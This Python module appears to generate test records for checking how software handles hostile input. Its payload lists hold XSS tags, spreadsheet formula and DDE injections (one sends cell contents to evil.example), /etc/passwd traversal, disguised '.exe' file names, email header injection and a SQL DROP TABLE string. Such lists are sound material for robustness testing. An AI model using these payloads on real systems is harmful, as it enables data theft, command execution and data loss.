"""What people with bad intentions write into fields that others will read."""

from collections.abc import Iterator
from dataclasses import replace
from itertools import cycle

from samples.people import Person
from samples.records.shapes import Blob, Entry, Line, Record, Row, SqlRow, address

TEXTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "\u202egpj.exe\u202c and \u2066isolated\u2069",
    "CON",
    "{{ 7 * 7 }} ${7*7} %s {0}",
    "line one\r\nBcc: victim@evil.example\r\n\r\nbody",
    "]]></x> --> */ ; DROP TABLE people; --",
    "\ufeffbyte order mark, \u200bzero width, \u2028line separator",
    "a" * 5000,
)
FILE_NAMES = (
    "CON.txt",
    "aux",
    "..%2F..%2Fetc%2Fpasswd",
    "=HYPERLINK.csv",
    "<img src=x onerror=alert(1)>.html",
    "invoice\u202efdp.exe",
    "two\u2028lines.txt",
    "trailing dots...",
    "CV.PDF",
    "cv.pdf",
    "x" * 200 + ".txt",
)
# fmt: off
_SPOILED = frozenset({
    "application", "attentionOf", "companyName", "displayName", "driveLetter", "exception", "firstName",
    "givenName", "interviewNotes", "jobTitle", "lastName", "letter", "location", "message", "name",
    "operationName", "page", "path", "position", "printerName", "product", "referrer", "signedBy", "subject",
    "surname", "text", "topics",
})
# fmt: on


def spoiled(person: Person, records: Iterator[Record]) -> Iterator[Record]:
    """Yield the records with hostile text in every free field, and files with hostile names."""
    texts = cycle(TEXTS)
    for record in records:
        if isinstance(record, Blob):
            yield record
        else:
            changes = {name: next(texts) for name in record.values if name in _SPOILED}
            yield _with(record, changes)
    for name in FILE_NAMES:
        yield Blob("ticket-attachments", f"{address(person)}/{name}", TEXTS[0].encode(), "text/html")


def _with[R: Row | Line | SqlRow | Entry](record: R, changes: dict[str, str]) -> R:
    return replace(record, values={**record.values, **changes})
